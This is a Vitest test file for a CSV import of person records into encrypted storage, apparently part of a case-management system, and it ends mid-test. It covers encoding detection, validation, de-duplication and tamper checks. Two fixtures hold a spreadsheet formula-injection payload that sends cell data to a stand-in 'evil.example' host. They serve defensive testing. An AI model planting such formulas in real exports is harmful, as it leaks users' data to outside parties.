import { isUtf8 } from 'node:buffer';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createFileBlobStore, type BlobStore } from '../../storage/blob-store.js';
import { parseKeyring, type Keyring } from '../../storage/crypto.js';
import {
  PersonsImportError,
  PersonsIntegrityError,
  importPersonsCsv,
  readPersons,
  type Person,
  type PersonsDeps,
  type PersonsListRef,
} from '../../storage/persons.js';

let dir: string;
let store: BlobStore;
const keyring: Keyring = parseKeyring(`k1:${randomBytes(32).toString('base64')}`);
let deps: PersonsDeps;
let seq = 0;

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'persons-'));
  store = createFileBlobStore(dir);
  deps = { store, keyring };
});
afterAll(async () => rm(dir, { recursive: true, force: true }));

const csv = (text: string | Buffer, pieceSize = 7): Readable => {
  const buf = Buffer.isBuffer(text) ? text : Buffer.from(text, 'utf8');
  // Odd-sized pieces split multi-byte characters across chunks, as a network upload does.
  return Readable.from(Array.from({ length: Math.ceil(buf.length / pieceSize) }, (_, i) => buf.subarray(i * pieceSize, (i + 1) * pieceSize)));
};
const upload = () => `u${++seq}`;

async function all(ref: Parameters<typeof readPersons>[1], from?: number) {
  const out: { index: number; person: Person }[] = [];
  for await (const r of readPersons(deps, ref, from === undefined ? {} : { from })) out.push(r);
  return out;
}

describe('importPersonsCsv', () => {
  it('accepts good rows, defaults language to ja, and reads them back in order', async () => {
    const text = [
      'name,email,postal_address,language',
      '山田 太郎,Taro.Yamada@Example.co.jp,,ja',
      'Jane Doe,jane@example.com,"1 Main St, Springfield",en',
      '佐藤 花子,,東京都千代田区丸の内1-1-1,',
      '"O\'Brien, ""Pat""",pat@example.ie,,EN',
    ].join('\r\n');
    const { ref, errors, errorCount } = await importPersonsCsv(csv(text), deps, { caseId: 'case-1', uploadId: upload() });
    expect(errors).toEqual([]);
    expect(errorCount).toBe(0);
    expect(ref).toMatchObject({ total: 4, accepted: 4, duplicates: 0, rejected: 0, withEmail: 3, withoutEmail: 1, byLanguage: { ja: 2, en: 2 } });
    expect(ref.key).toBe(`cases/case-1/persons/${ref.uploadId}.ndjson.enc`);
    const rows = await all(ref);
    expect(rows.map((r) => r.index)).toEqual([0, 1, 2, 3]);
    expect(rows[0]!.person).toMatchObject({ name: '山田 太郎', email: 'taro.yamada@example.co.jp', language: 'ja' });
    expect(rows[0]!.person.postalAddress).toBeUndefined();
    expect(rows[1]!.person).toMatchObject({ postalAddress: '1 Main St, Springfield', language: 'en' });
    expect(rows[2]!.person).toMatchObject({ name: '佐藤 花子', postalAddress: '東京都千代田区丸の内1-1-1', language: 'ja' });
    expect(rows[2]!.person.email).toBeUndefined();
    expect(rows[3]!.person.name).toBe('O\'Brien, "Pat"');
    expect(new Set(rows.map((r) => r.person.personId)).size).toBe(4);
    for (const r of rows) expect(r.person.personId).toMatch(/^p_[A-Za-z0-9_-]{22}$/);
  });

  it('accepts postalAddress, Japanese headings and a BOM', async () => {
    const a = await importPersonsCsv(csv('\uFEFFname,postalAddress\n田中,大阪府大阪市\n'), deps, { caseId: 'c', uploadId: upload() });
    expect(a.ref.accepted).toBe(1);
    const b = await importPersonsCsv(csv('\uFEFF氏名,メールアドレス,住所,言語\n鈴木,suzuki@example.jp,,ja\n'), deps, { caseId: 'c', uploadId: upload() });
    expect(b.ref.accepted).toBe(1);
    expect((await all(b.ref))[0]!.person).toMatchObject({ name: '鈴木', email: 'suzuki@example.jp' });
  });

  it('reports each bad-row class with its spreadsheet row number, never the value', async () => {
    const long = 'x'.repeat(201);
    const text = [
      'name,email,postal_address,language', // row 1
      ',a@example.com,,ja', // 2 name required
      `${long},b@example.com,,ja`, // 3 name too long
      'Bad Mail,not-an-email,,ja', // 4 e-mail syntax
      'No Contact,,,ja', // 5 neither e-mail nor address
      'Lang,c@example.com,,fr', // 6 language
      'Wide,d@example.com,,ja,surprise', // 7 too many columns
      `Long,e@example.com,${'住'.repeat(1400)},ja`, // 8 line too long (4200+ bytes)
      'Good,ok@example.com,,ja', // 9
      'Trailing,t@example.com,,ja,,', // 10 empty extra cells are tolerated
    ].join('\n');
    const { ref, errors, errorCount } = await importPersonsCsv(csv(text), deps, { caseId: 'c', uploadId: upload() });
    expect(errors).toEqual([
      { row: 2, column: 'name', reason: 'required' },
      { row: 3, column: 'name', reason: 'too_long' },
      { row: 4, column: 'email', reason: 'invalid_email' },
      { row: 5, reason: 'email_or_address_required' },
      { row: 6, column: 'language', reason: 'invalid_language' },
      { row: 7, reason: 'too_many_columns' },
      { row: 8, reason: 'line_too_long' },
      { row: 8, column: 'postal_address', reason: 'too_long' },
    ]);
    expect(errorCount).toBe(8);
    expect(ref).toMatchObject({ total: 9, accepted: 2, rejected: 7 });
    expect(JSON.stringify(errors)).not.toMatch(/not-an-email|surprise|fr"/);
  });

  it('reads LF, CRLF, CR and mixed line endings alike, also split across chunks, and keeps line breaks in quoted cells', async () => {
    const rows = ['Ａ,a@example.com,,en', 'B,b@example.com,"1-2\r\n3",ja', 'C,c@example.com,,en'];
    const header = 'name,email,postal_address,language';
    for (const [label, text] of [
      ['LF', `${header}\n${rows.join('\n')}\n`],
      ['CRLF', `${header}\r\n${rows.join('\r\n')}\r\n`],
      ['CR', `${header}\r${rows.join('\r')}`],
      ['CRLF then LF', `${header}\r\n${rows[0]}\n${rows[1]}\r\n${rows[2]}`],
      ['LF then CR', `${header}\n${rows[0]}\r${rows[1]}\n\n${rows[2]}\r\n`],
    ] as const) {
      for (const piece of [1, 7, 4096]) {
        const { ref, errors } = await importPersonsCsv(csv(`\uFEFF${text}`, piece), deps, { caseId: 'c-eol', uploadId: upload() });
        expect({ label, piece, errors }).toEqual({ label, piece, errors: [] });
        const people = (await all(ref)).map((r) => r.person);
        expect(people.map((p) => [p.name, p.language])).toEqual([
          ['Ａ', 'en'],
          ['B', 'ja'],
          ['C', 'en'],
        ]);
        // Addresses are collapsed to one line as before; the quoted CRLF did not split the row.
        expect(people[1]!.postalAddress).toBe('1-2 3');
      }
    }
  });

  it('stores formula-looking values as given (neutralised on CSV output, not on import)', async () => {
    const text = [
      'name,email,postal_address',
      '"=HYPERLINK(""http://evil.example/?""&A1,""x"")",f1@example.com,',
      '+81 Taro,f2@example.com,',
      '-Hanako-,f3@example.com,',
      '@SUM(1+1),f4@example.com,',
      '"\tTab",f5@example.com,',
      'Plain,,=1+2',
    ].join('\n');
    const { ref, errors } = await importPersonsCsv(csv(text), deps, { caseId: 'c', uploadId: upload() });
    expect(errors).toEqual([]);
    const people = (await all(ref)).map((r) => r.person);
    expect(people.map((p) => p.name)).toEqual(['=HYPERLINK("http://evil.example/?"&A1,"x")', '+81 Taro', '-Hanako-', '@SUM(1+1)', 'Tab', 'Plain']);
    expect(people[5]!.postalAddress).toBe('=1+2');
  });

  it('treats headings named like Object.prototype members as unknown columns', async () => {
    const { ref, errors } = await importPersonsCsv(csv('constructor,name,email,toString,__proto__\nx,A,a@example.com,y,z\n'), deps, {
      caseId: 'c',
      uploadId: upload(),
    });
    expect(errors).toEqual([]);
    expect((await all(ref)).map((r) => r.person)).toMatchObject([{ name: 'A', email: 'a@example.com' }]);
  });

  it('accepts legacy Japanese carrier addresses and full-width e-mail', async () => {
    const { ref, errors } = await importPersonsCsv(
      csv('name,email\nA,taro..yamada.@docomo.ne.jp\nB,ｈａｎａｋｏ＠ｅｘａｍｐｌｅ．ｊｐ\n'),
      deps,
      { caseId: 'c', uploadId: upload() },
    );
    expect(errors).toEqual([]);
    expect((await all(ref)).map((r) => r.person.email)).toEqual(['taro..yamada.@docomo.ne.jp', 'hanako@example.jp']);
  });

  it('caps the error list at maxErrors but counts them all', async () => {
    const text = ['name,email', ...Array.from({ length: 50 }, () => ',x@example.com')].join('\n');
    const { errors, errorCount, ref } = await importPersonsCsv(csv(text, 4096), deps, { caseId: 'c', uploadId: upload(), maxErrors: 10 });
    expect(errors).toHaveLength(10);
    expect(errors[9]).toEqual({ row: 11, column: 'name', reason: 'required' });
    expect(errorCount).toBe(50);
    expect(ref.rejected).toBe(50);
  });

  it('de-duplicates by normalised e-mail and by name + address across width and spacing variants (名寄せ)', async () => {
    const text = [
      'name,email,postal_address,language',
      '山田太郎,taro@example.jp,,ja',
      '山田 太郎,  TARO@EXAMPLE.JP ,,en', // same e-mail, case and spaces
      'ﾔﾏﾀﾞﾀﾛｳ,ｔａｒｏ＠ｅｘａｍｐｌｅ．ｊｐ,,ja', // full-width e-mail, half-width kana name
      '佐藤花子,,東京都港区芝公園４－２－８,ja',
      '佐藤花子,,東京都港区芝公園4-2-8,ja', // half-width digits
      '佐藤 花子 ,,　東京都港区　芝公園4−2‐8 ,ja', // spaces (full-width too) and dash look-alikes
      'ｻﾄｳ ﾊﾅｺ,,東京都港区芝公園4-2-8,ja', // different name: kept
      '佐藤花子,hanako@example.jp,東京都港区芝公園4-2-8,ja', // has e-mail: identified by it, kept
    ].join('\n');
    const { ref } = await importPersonsCsv(csv(text), deps, { caseId: 'c', uploadId: upload() });
    expect(ref).toMatchObject({ total: 8, accepted: 4, duplicates: 4, rejected: 0, withEmail: 2, withoutEmail: 2 });
    const people = (await all(ref)).map((r) => r.person);
    expect(people[0]).toMatchObject({ name: '山田太郎', language: 'ja' }); // first kept
    expect(people[1]).toMatchObject({ postalAddress: '東京都港区芝公園４－２－８' });
  });

  it('gives the same person the same id and the same upload the same checksum', async () => {
    const text = 'name,email,postal_address\nA,a@example.com,\nB,,Somewhere 1\n';
    const one = await importPersonsCsv(csv(text), deps, { caseId: 'c-stable', uploadId: upload() });
    const two = await importPersonsCsv(csv(text, 3), deps, { caseId: 'c-stable', uploadId: upload() });
    const other = await importPersonsCsv(csv(text), deps, { caseId: 'c-other', uploadId: upload() });
    expect(two.ref.checksum).toBe(one.ref.checksum);
    const ids = async (r: typeof one) => (await all(r.ref)).map((x) => x.person.personId);
    expect(await ids(two)).toEqual(await ids(one));
    expect(await ids(other)).not.toEqual(await ids(one));
    expect(other.ref.checksum).not.toBe(one.ref.checksum);
  });

  it('keeps plaintext out of the stored blob file', async () => {
    const { ref } = await importPersonsCsv(
      csv('name,email,postal_address\nZebulon Quixote,zebulon@example.org,\n山田太郎,,北海道札幌市\n'),
      deps,
      { caseId: 'c', uploadId: upload() },
    );
    const raw = await readFile(path.join(dir, ref.key));
    for (const needle of ['Zebulon', 'zebulon@example.org', '山田太郎', '北海道', 'personId']) {
      expect(raw.includes(Buffer.from(needle, 'utf8'))).toBe(false);
    }
  });

  it('resumes from an index and still verifies the checksum at the end', async () => {
    const text = ['name,email', ...Array.from({ length: 5000 }, (_, i) => `P${i},p${i}@example.com`)].join('\n');
    const { ref } = await importPersonsCsv(csv(text, 1000), deps, { caseId: 'c', uploadId: upload() });
    const rest = await all(ref, 4321);
    expect(rest).toHaveLength(5000 - 4321);
    expect(rest[0]).toMatchObject({ index: 4321, person: { name: 'P4321' } });
    expect(rest.at(-1)!.index).toBe(4999);
    expect(await all(ref, 5000)).toEqual([]);
  });

  it('throws on a tampered list: swapped object, wrong checksum, truncated file', async () => {
    const a = await importPersonsCsv(csv('name,email\nA,a@example.com\n'), deps, { caseId: 'c', uploadId: upload() });
    const b = await importPersonsCsv(csv('name,email\nB,b@example.com\n'), deps, { caseId: 'c', uploadId: upload() });
    await expect(all({ ...a.ref, checksum: b.ref.checksum })).rejects.toBeInstanceOf(PersonsIntegrityError);
    await expect(all({ ...a.ref, accepted: 2 })).rejects.toBeInstanceOf(PersonsIntegrityError);
    // Copying b's sealed bytes over a's name fails: the storage key is bound into every chunk.
    await writeFile(path.join(dir, a.ref.key), await readFile(path.join(dir, b.ref.key)));
    await expect(all(a.ref)).rejects.toMatchObject({ code: 'auth_failed' });
    const raw = await readFile(path.join(dir, b.ref.key));
    await writeFile(path.join(dir, b.ref.key), raw.subarray(0, raw.length - 3));
    await expect(all(b.ref)).rejects.toMatchObject({ code: 'truncated' });
  });

  describe('refusals store nothing', () => {
    const refused = async (input: Readable, code: string, opts: { maxRows?: number; maxLineBytes?: number } = {}) => {
      const uploadId = upload();
      const err = await importPersonsCsv(input, deps, { caseId: 'refused', uploadId, ...opts }).catch((e: unknown) => e);
      expect(err).toBeInstanceOf(PersonsImportError);
      expect((err as PersonsImportError).code).toBe(code);
      expect(await store.exists(`cases/refused/persons/${uploadId}.ndjson.enc`)).toBe(false);
      return err as PersonsImportError;
    };

    it('too many rows', async () => {
      const text = ['name,email', ...Array.from({ length: 101 }, (_, i) => `P${i},p${i}@example.com`)].join('\n');
      const err = await refused(csv(text, 100), 'too_many_rows', { maxRows: 100 });
      expect(err.details.limit).toBe(100);
    });

    it('missing columns', async () => {
      await refused(csv('email,postal_address\na@example.com,x\n'), 'missing_columns');
      await refused(csv('name,language\nA,ja\n'), 'missing_columns');
    });

    it('not CSV: empty, neither UTF-8 nor Shift_JIS, broken quoting, binary', async () => {
      await refused(csv(''), 'not_csv');
      // 「山」 in Shift_JIS, then a lead byte whose trail byte is cut off by the comma.
      await refused(csv(Buffer.concat([Buffer.from('name,email\n'), Buffer.from([0x8e, 0x52, 0x93]), Buffer.from(',a@example.com\n')])), 'not_csv');
      const err = await refused(csv('name,email\n"山田 太郎" x,a@example.com\n'), 'not_csv');
      expect(err.message).not.toContain('山田');
      // A workbook (.xlsx, a zip) sent instead of its CSV: NUL bytes in the first cell. Random bytes may trip the parser
      // first (a stray quote), or read as a Shift_JIS header that names no known column (`missing_columns`).
      const xlsx = Buffer.concat([Buffer.from('504b030414000600080000002100', 'hex'), Buffer.from('[Content_Types].xml\n')]);
      expect((await refused(csv(xlsx), 'not_csv')).details).toMatchObject({ rule: 'encoding', row: 1 });
      const noise = await importPersonsCsv(csv(randomBytes(4096)), deps, { caseId: 'refused', uploadId: upload() }).catch((e: unknown) => e);
      expect(noise).toBeInstanceOf(PersonsImportError);
      expect(['not_csv', 'missing_columns']).toContain((noise as PersonsImportError).code);
    });

    // Each way the file's text can fail, with the rule and place the API hands on (422 persons_rejected: reason = code,
    // then rule, row, line, column). `secret` is the cell text that must appear in neither message nor details: csv-parse's
    // own errors quote it (INVALID_OPENING_QUOTE carries the field so far, the message repeats it).
    const sjis = (s: string) => Buffer.from(s, 'latin1');
    const fileCases: {
      title: string;
      input: string | Buffer;
      code?: string;
      want: { rule: string; row?: number; line?: number; column?: string };
      secret?: string;
      says?: RegExp;
    }[] = [
      {
        title: 'a stray quote inside a name (INVALID_OPENING_QUOTE, no CSV_ prefix)',
        input: 'name,email\nA,a@example.com\n小林"秘密子",k@example.com\n',
        want: { rule: 'invalid_quote', row: 3, line: 3, column: 'name' },
        secret: '小林',
      },
      {
        title: 'an unquoted formula with quotes',
        input: 'name,email\n=HYPERLINK("http://evil.example/?"&A1;"x"),h@example.com\n',
        want: { rule: 'invalid_quote', row: 2, line: 2, column: 'name' },
        secret: 'HYPERLINK',
      },
      {
        title: 'a quote in the e-mail column',
        input: 'name,email\nA,himitsu"x@example.com\n',
        want: { rule: 'invalid_quote', row: 2, column: 'email' },
        secret: 'himitsu',
      },
      {
        title: 'text after a closing quote',
        input: 'name,email\n"山田 太郎" 秘密,a@example.com\n',
        want: { rule: 'text_after_quote', row: 2, column: 'name' },
        secret: '山田',
      },
      {
        title: 'a quote never closed (row is where it opens)',
        input: 'name,email\nA,a@example.com\n"秘密 次郎,b@example.com\nC,c@example.com\n',
        want: { rule: 'unclosed_quote', row: 3, column: 'name' },
        secret: '秘密',
      },
      {
        title: 'rows counted as records when a quoted address holds line breaks',
        input: 'name,postal_address\nA,"1-2-3\r\n秘匿町\r\nビル"\nB,x"秘匿y\n',
        want: { rule: 'invalid_quote', row: 3, column: 'postal_address' },
        secret: '秘匿',
      },
      {
        title: 'neither UTF-8 nor Shift_JIS in a data row (0xFD is neither a lead nor a trail byte)',
        input: Buffer.concat([Buffer.from('name,email\nA,a@example.com\n'), sjis('\x8e\x52\xfd\x93\x63'), Buffer.from(',b@example.com\n')]),
        want: { rule: 'encoding', row: 3, column: 'name' },
        says: /^row 3, column name is neither UTF-8 nor Shift_JIS \(CP932\) text; save the list as "CSV UTF-8"$/,
      },
      {
        title: 'neither UTF-8 nor Shift_JIS in the header (a lead byte at the end of a cell)',
        input: Buffer.concat([sjis('\x8e\x81\x96'), Buffer.from(',email\n')]),
        want: { rule: 'encoding', row: 1 },
      },
      {
        title: 'an unassigned Shift_JIS code (row 0x85) in an address',
        input: Buffer.concat([Buffer.from('name,postal_address\nA,'), sjis('\x93\x8c\x85\x40'), Buffer.from('\n')]),
        want: { rule: 'encoding', row: 2, column: 'postal_address' },
      },
      {
        title: 'Shift_JIS rows after UTF-8 rows (two files pasted together)',
        input: Buffer.concat([Buffer.from('name,email\n山田 太郎,a@example.com\n'), sjis('\x8d\xb2\x93\xa1'), Buffer.from(',b@example.com\n')]),
        want: { rule: 'encoding', row: 3, column: 'name' },
        secret: '山田',
        says: /^row 3, column name is Shift_JIS \(CP932\) text but row 2, column name is UTF-8: the file mixes two encodings/,
      },
      {
        title: 'UTF-8 rows after Shift_JIS rows',
        input: Buffer.concat([sjis('\x8e\x81\x96\xbc'), Buffer.from(',email\n佐藤,b@example.com\n')]),
        want: { rule: 'encoding', row: 2, column: 'name' },
        secret: '佐藤',
        says: /^row 2, column name is UTF-8 text but row 1 is Shift_JIS \(CP932\): the file mixes two encodings/,
      },
      {
        title: 'Shift_JIS after a UTF-8 byte order mark',
        input: Buffer.concat([Buffer.from('\uFEFFname,email\n'), sjis('\x8d\xb2\x93\xa1'), Buffer.from(',b@example.com\n')]),
        want: { rule: 'encoding', row: 2, column: 'name' },
        says: /byte order mark: the file mixes two encodings/,
      },
      {
        title: 'UTF-32LE with a byte order mark',
        input: Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, 0x00]), Buffer.from('n\0\0\0')]),
        want: { rule: 'encoding', row: 1, line: 1 },
        says: /UTF-32/,
      },
      {
        title: 'UTF-16LE with a byte order mark and a broken character (a lone surrogate) in a name',
        input: Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from('name,email\r\n秘密,a@example.com\r\n', 'utf16le'),
          Buffer.from([0x3d, 0xd8]),
          Buffer.from('子,b@example.com\r\n', 'utf16le'),
        ]),
        want: { rule: 'encoding', row: 3, column: 'name' },
        secret: '秘密',
        says: /^row 3, column name is not valid UTF-16LE text/,
      },
      {
        title: 'UTF-16LE without a byte order mark (NUL bytes)',
        input: Buffer.from('name,email\n秘密,a@example.com\n', 'utf16le'),
        want: { rule: 'encoding', row: 1 },
      },
      {
        title: 'a NUL character in a name',
        input: 'name,email\n秘密\u0000子,a@example.com\n',
        want: { rule: 'encoding', row: 2, column: 'name' },
        secret: '秘密',
      },
      { title: 'only a byte order mark', input: '\uFEFF', want: { rule: 'empty' } },
      { title: 'a column named twice', input: 'name,氏名,email\n', want: { rule: 'duplicate_column', row: 1 } },
      {
        title: 'a record far over the line limit',
        input: `name,email\nA,a@example.com\n${'秘'.repeat(40_000)},b@example.com\n`,
        code: 'line_too_long',
        want: { rule: 'line_too_long', row: 3, line: 3, column: 'name' },
        secret: '秘秘',
      },
    ];
    for (const c of fileCases) {
      it(`file rule: ${c.title}`, async () => {
        const err = await refused(csv(c.input, 5), c.code ?? 'not_csv');
        expect(err.details).toMatchObject(c.want);
        if (c.want.line === undefined && c.want.rule === 'unclosed_quote') expect(err.details.line).toBeUndefined();
        if (c.want.column === undefined) expect(err.details.column).toBeUndefined();
        expect(err.cause).toBeUndefined();
        if (c.says) expect(err.message).toMatch(c.says);
        if (c.secret) {
          expect(err.message).not.toContain(c.secret);
          expect(JSON.stringify(err.details)).not.toContain(c.secret);
          expect(JSON.stringify(err)).not.toContain(c.secret);
        }
      });
    }

    it('a line far beyond the limit', async () => {
      const err = await refused(csv(`name,email\n${'a'.repeat(100_000)},a@example.com\n`, 8192), 'line_too_long');
      expect(err.details).toMatchObject({ line: 2, row: 2, rule: 'line_too_long', limit: 4096 });
    });

    it('an aborted upload keeps its own error', async () => {
      const uploadId = upload();
      const aborted = Readable.from(
        (function* () {
          yield Buffer.from('name,email\nA,a@example.com\n');
          throw Object.assign(new Error('aborted'), { code: 'ECONNRESET' });
        })(),
      );
      await expect(importPersonsCsv(aborted, deps, { caseId: 'refused', uploadId })).rejects.toMatchObject({ code: 'ECONNRESET' });
      expect(await store.exists(`cases/refused/persons/${uploadId}.ndjson.enc`)).toBe(false);
    });

    it('leaves no temporary files behind', async () => {
      const files = await readdir(path.join(dir, 'cases/refused/persons')).catch(() => []);
      expect(files).toEqual([]);
    });
  });
});

// ---- Shift_JIS (Windows-31J / CP932) ------------------------------------------------------------------------------

/**
 * What Japanese Excel writes for "CSV (comma delimited)": Windows-31J. The bytes are made by iconv-lite's cp932 table,
 * an implementation independent of the decoder under test (Node's ICU), so each checks the other.
 */
describe('Shift_JIS (CP932) lists', () => {
  const cp932 = (text: string): Buffer => {
    const bytes = iconv.encode(text, 'cp932');
    // Only text CP932 can carry: no character turned into '?'.
    expect(iconv.decode(bytes, 'cp932')).toBe(text);
    return bytes;
  };
  const persons = async (ref: Parameters<typeof readPersons>[1]) => (await all(ref)).map((r) => r.person);
  const withoutPlace = ({ key: _key, uploadId: _uploadId, ...rest }: PersonsListRef) => rest;

  // The characters Excel users actually have: NEC row 13 (①, ㈱, №, ℡, ≒), the IBM extensions (髙, 﨑, ⅰ), 0x5C as a
  // trail byte (表, ソ, 能), the symbols CP932 maps its own way (～, －, ＼, ￢, ∥), half-width katakana, and the cells
  // a spreadsheet quotes (a comma, a line break inside an address).
  const EXCEL_LIST = [
    '氏名,メールアドレス,住所,言語',
    '山田 太郎,taro@example.jp,,ja',
    '髙橋 ①子,,"東京都港区芝公園４－２－８, ㈱テスト№３ ℡",',
    '﨑山 ⅰ,sakiyama@example.jp,,',
    '表 ソ能,,"大阪府大阪市北区梅田１－１\r\n～ビル＼２Ｆ ￢∥≒",ja',
    'ﾔﾏﾀﾞ ﾊﾅｺ,hanako@example.jp,,ja',
    'ﾅｶ ﾏｷ,naka@example.jp,,ja',
    'John Smith,john@example.com,,en',
    '=1+1 山田,,東京都,ja',
    ',nobody@example.jp,,ja',
    '佐藤 次郎,not-an-email,,ja',
    '山田　太郎,TARO@example.jp,,ja',
  ].join('\r\n');

  for (const piece of [1, 2, 3, 7, 65_536]) {
    it(`reads a list from Japanese Excel as its UTF-8 twin (pieces of ${piece} bytes)`, async () => {
      const sjisBytes = cp932(EXCEL_LIST);
      // The extension codes really are in the file: ① 87 40, ㈱ 87 8A, 髙 FB FC (IBM), ⅰ FA 40, 表 95 5C.
      for (const code of ['8740', '878a', 'fbfc', 'fa40', '955c']) expect(sjisBytes.toString('hex')).toContain(code);
      const sjis = await importPersonsCsv(csv(sjisBytes, piece), deps, { caseId: 'sjis', uploadId: upload() });
      const utf8 = await importPersonsCsv(csv(EXCEL_LIST, piece), deps, { caseId: 'sjis', uploadId: upload() });
      expect(sjis.encoding).toBe('shift_jis');
      expect(utf8.encoding).toBe('utf-8');
      expect(withoutPlace(sjis.ref)).toEqual(withoutPlace(utf8.ref));
      expect(sjis.errors).toEqual(utf8.errors);
      expect(sjis.errors).toEqual([
        { row: 10, column: 'name', reason: 'required' },
        { row: 11, column: 'email', reason: 'invalid_email' },
      ]);
      expect(sjis.ref).toMatchObject({ total: 11, accepted: 8, duplicates: 1, rejected: 2 });
      const read = await persons(sjis.ref);
      expect(read).toEqual(await persons(utf8.ref));
      expect(read.map((p) => p.name)).toEqual(['山田 太郎', '髙橋 ①子', '﨑山 ⅰ', '表 ソ能', 'ﾔﾏﾀﾞ ﾊﾅｺ', 'ﾅｶ ﾏｷ', 'John Smith', '=1+1 山田']);
      expect(read[1]!.postalAddress).toBe('東京都港区芝公園４－２－８, ㈱テスト№３ ℡');
      expect(read[3]!.postalAddress).toBe('大阪府大阪市北区梅田１－１ ～ビル＼２Ｆ ￢∥≒');
    });
  }

  const utf16 = (text: string, order: 'le' | 'be'): Buffer => {
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    return order === 'le' ? le : Buffer.from(le).swap16();
  };

  for (const piece of [1, 2, 3, 7, 65_536]) {
    it(`reads the same list saved as UTF-16LE and UTF-16BE with a byte order mark, and as UTF-8 with one (pieces of ${piece} bytes)`, async () => {
      // 𠮷 (U+20BB7) is a surrogate pair in UTF-16: pieces of 1-3 bytes split its halves and its units.
      const list = `${EXCEL_LIST}\r\n𠮷野 家子,yoshino@example.jp,,ja\r\n`;
      const plain = await importPersonsCsv(csv(list, piece), deps, { caseId: 'u16', uploadId: upload() });
      const le = await importPersonsCsv(csv(utf16(list, 'le'), piece), deps, { caseId: 'u16', uploadId: upload() });
      const be = await importPersonsCsv(csv(utf16(list, 'be'), piece), deps, { caseId: 'u16', uploadId: upload() });
      const bom = await importPersonsCsv(csv(`\uFEFF${list}`, piece), deps, { caseId: 'u16', uploadId: upload() });
      expect([plain.encoding, le.encoding, be.encoding, bom.encoding]).toEqual(['utf-8', 'utf-16le', 'utf-16be', 'utf-8-bom']);
      for (const other of [le, be, bom]) {
        expect(withoutPlace(other.ref)).toEqual(withoutPlace(plain.ref));
        expect(other.errors).toEqual(plain.errors);
        expect(await persons(other.ref)).toEqual(await persons(plain.ref));
      }
      const names = (await persons(le.ref)).map((p) => p.name);
      expect(names).toContain('髙橋 ①子');
      expect(names).toContain('𠮷野 家子');
    });
  }

  it('refuses UTF-16 without a byte order mark with its row and column (no library tells it apart reliably)', async () => {
    const err = (await importPersonsCsv(csv(Buffer.from('name,email\r\n山田,a@example.jp\r\n', 'utf16le')), deps, {
      caseId: 'refused',
      uploadId: upload(),
    }).catch((e: unknown) => e)) as PersonsImportError;
    expect(err).toBeInstanceOf(PersonsImportError);
    expect(err.details).toMatchObject({ rule: 'encoding', row: 1 });
    expect(err.textKey).toBe('encoding.no_bom_utf16');
  });

  it('reads 髙 and 﨑 alike from the IBM extension and from its NEC-selected copy', async () => {
    const ibm = cp932('name,email\r\n髙﨑 花子,a@example.jp\r\n');
    expect(ibm.toString('hex')).toContain('fbfcfab1');
    const nec = Buffer.from(ibm.toString('hex').replace('fbfcfab1', 'eee0ed95'), 'hex');
    const a = await importPersonsCsv(csv(ibm), deps, { caseId: 'sjis', uploadId: upload() });
    const b = await importPersonsCsv(csv(nec), deps, { caseId: 'sjis', uploadId: upload() });
    expect((await persons(a.ref))[0]!.name).toBe('髙﨑 花子');
    expect(await persons(b.ref)).toEqual(await persons(a.ref));
  });

  it('decodes every Windows-31J code as the cp932 table does (JIS X 0208, NEC, IBM, half-width katakana)', async () => {
    const codes: number[][] = [];
    for (let b = 0xa1; b <= 0xdf; b++) codes.push([b]);
    for (let lead = 0x81; lead <= 0xfc; lead++) {
      // 0xF0-0xF9 is the user-defined area (外字): private-use characters no letter could print, left out here.
      if ((lead >= 0xa0 && lead <= 0xdf) || (lead >= 0xf0 && lead <= 0xf9)) continue;
      for (let trail = 0x40; trail <= 0xfc; trail++) {
        if (trail === 0x7f) continue;
        const text = iconv.decode(Buffer.from([lead, trail]), 'cp932');
        if (text.length === 1 && text !== '\uFFFD') codes.push([lead, trail]);
      }
    }
    // JIS X 0208 (6,879), NEC row 13 (83), NEC-selected IBM (374), IBM (388), half-width katakana (63).
    expect(codes.length).toBe(7787);
    // 150 characters a name, between two ASCII letters so that U+3000 (0x8140) is not trimmed away.
    const rows: Buffer[] = [Buffer.from('name,email\r\n')];
    const want: string[] = [];
    for (let i = 0; i < codes.length; i += 150) {
      const bytes = Buffer.from(codes.slice(i, i + 150).flat());
      rows.push(Buffer.from('n'), bytes, Buffer.from(`n,t${i}@example.jp\r\n`));
      want.push(`n${iconv.decode(bytes, 'cp932')}n`.normalize('NFC'));
    }
    const { ref, encoding, errors } = await importPersonsCsv(csv(Buffer.concat(rows), 4096), deps, { caseId: 'sjis', uploadId: upload() });
    expect(encoding).toBe('shift_jis');
    expect(errors).toEqual([]);
    expect((await persons(ref)).map((p) => p.name)).toEqual(want);
  });

  it('holds back rows that read both ways until a later row settles the encoding', async () => {
    // ﾅｶ ﾏｷ in Shift_JIS (C5 B6 20 CF B7) is also valid UTF-8 (Ŷ Ϸ); 山田 in the fourth row says which it is.
    const list = cp932('name,email,postal_address\r\nﾅｶ ﾏｷ,naka@example.jp,\r\nA,a@example.jp,\r\n山田,,東京都\r\n');
    expect(isUtf8(cp932('ﾅｶ ﾏｷ'))).toBe(true);
    const { ref, encoding } = await importPersonsCsv(csv(list), deps, { caseId: 'sjis', uploadId: upload() });
    expect(encoding).toBe('shift_jis');
    expect((await persons(ref)).map((p) => p.name)).toEqual(['ﾅｶ ﾏｷ', 'A', '山田']);
  });

  it('reads UTF-8 accented Latin as UTF-8, and a file whose every cell reads both ways too (the documented limit)', async () => {
    const latin = await importPersonsCsv(csv('name,email\r\nJosé Müller,jose@example.com\r\nZoë,zoe@example.com\r\n'), deps, { caseId: 'sjis', uploadId: upload() });
    expect(latin.encoding).toBe('utf-8');
    expect((await persons(latin.ref)).map((p) => p.name)).toEqual(['José Müller', 'Zoë']);
    // Nothing tells these bytes apart, so they are read as the format the page asks for.
    const kanaOnly = await importPersonsCsv(csv(cp932('name,email\r\nﾅｶ ﾏｷ,naka@example.jp\r\n')), deps, { caseId: 'sjis', uploadId: upload() });
    expect(kanaOnly.encoding).toBe('utf-8');
    expect((await persons(kanaOnly.ref))[0]!.name).toBe('Ŷ Ϸ');
  });

  it('holds back at most HOLD_BYTES: a Shift_JIS row after more than that is refused, naming the row read as UTF-8', async () => {
